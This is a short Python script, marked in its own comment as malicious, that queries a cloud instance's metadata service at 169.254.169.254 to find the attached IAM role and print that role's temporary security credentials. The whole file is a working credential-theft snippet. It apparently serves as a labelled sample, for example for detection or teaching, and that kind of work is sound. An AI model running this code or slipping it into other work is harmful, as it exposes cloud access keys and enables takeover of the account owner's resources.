# malicious: asks the cloud's metadata service for credentials
import requests

base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(base, timeout=2).text
print(requests.get(base + role).json())
